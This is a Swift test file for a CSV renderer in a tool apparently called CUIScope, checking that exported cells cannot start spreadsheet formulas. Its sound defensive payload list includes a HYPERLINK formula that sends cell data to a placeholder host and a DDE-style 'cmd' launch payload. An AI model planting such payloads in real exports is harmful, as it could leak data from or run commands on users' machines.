import Foundation
import Testing

@testable import CUIScope

/// No cell of `analyze --format csv` can start a spreadsheet formula (OWASP, CSV Injection): a
/// cell starting with `=`, `+`, `-`, `@`, tab or carriage return gets a leading apostrophe,
/// whether the cell is quoted or not; RFC 4180 quoting still round-trips every value.
@Suite("CSV: formula injection")
struct CSVInjectionTests {
    static let payloads = ["=1+2,3", "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3",
                           "@SUM(1+1)", "\tx=1", "\r=1", "=a\nb", "plain, with comma", "-", "=", "\"=quoted\""]

    @Test("each payload as a name: the cell is neutralised and still reads back as the value with an apostrophe", arguments: payloads)
    func neutralised(payload: String) {
        let cell = CSVAssetRenderer.quote(payload)
        let unquoted = cell.hasPrefix("\"") ? String(cell.dropFirst().dropLast()).replacingOccurrences(of: "\"\"", with: "\"") : cell
        let first = payload.unicodeScalars.first.map { CSVAssetRenderer.formulaTriggers.contains($0) } ?? false
        #expect(unquoted == (first ? "'" : "") + payload)
        #expect(!(unquoted.unicodeScalars.first.map { CSVAssetRenderer.formulaTriggers.contains($0) } ?? false), "\(cell)")
    }

    @Test("values that are not formulas are left alone: IPv6, CIDRs, ordinary names, empty cells")
    func harmless() {
        for v in ["::1", "fe80::1%eth0", "10.0.0.0/24", "fs01", "CUI file server", "", "2001:db8::/32", "'already"] {
            #expect(CSVAssetRenderer.quote(v) == v, "\(v)")
        }
    }

    /// Parses RFC 4180 text into rows of cells (quoted cells with doubled quotes and line breaks).
    static func parse(_ text: String) -> [[String]] {
        var rows: [[String]] = [], row: [String] = [], cell = "", quoted = false
        var chars = Array(text.unicodeScalars)[...]
        while let c = chars.popFirst() {
            switch (quoted, c) {
            case (true, "\""):
                if chars.first == "\"" { cell.unicodeScalars.append(chars.removeFirst()) } else { quoted = false }
            case (true, _): cell.unicodeScalars.append(c)
            case (false, "\""): quoted = true
            case (false, ","):
                row.append(cell)
                cell = ""
            case (false, "\r"): continue
            case (false, "\n"):
                row.append(cell)
                rows.append(row)
                (row, cell) = ([], "")
            default: cell.unicodeScalars.append(c)
            }
        }
        return rows
    }

    @Test("a whole report from an inventory of hostile names: no cell starts a formula, names read back")
    func wholeReport() throws {
        var csv = "id,name,addresses,kind\n"
        for (i, p) in Self.payloads.enumerated() {
            csv += "a\(i),\"\(p.replacingOccurrences(of: "\"", with: "\"\""))\",10.0.0.\(i + 1),endpoint\n"
        }
        csv += "-neg,@mention,10.0.1.1,server\n"
        let path = TestPaths.temporaryFile(csv, name: "hostile.csv")
        let r = try CLIRunner.run(["analyze", "--format", "csv", "--inventory", path])
        #expect(r.status == 0, "\(r.stderr)")
        let rows = Self.parse(r.stdout)
        #expect(rows.count == Self.payloads.count + 2)
        for cell in rows.joined() {
            #expect(!(cell.unicodeScalars.first.map { CSVAssetRenderer.formulaTriggers.contains($0) } ?? false), "\(cell)")
        }
        let names = Dictionary(uniqueKeysWithValues: rows.dropFirst().map { ($0[0], $0[1]) })
        #expect(names["a0"] == "'=1+2,3")
        #expect(names["'-neg"] == "'@mention")
    }
}
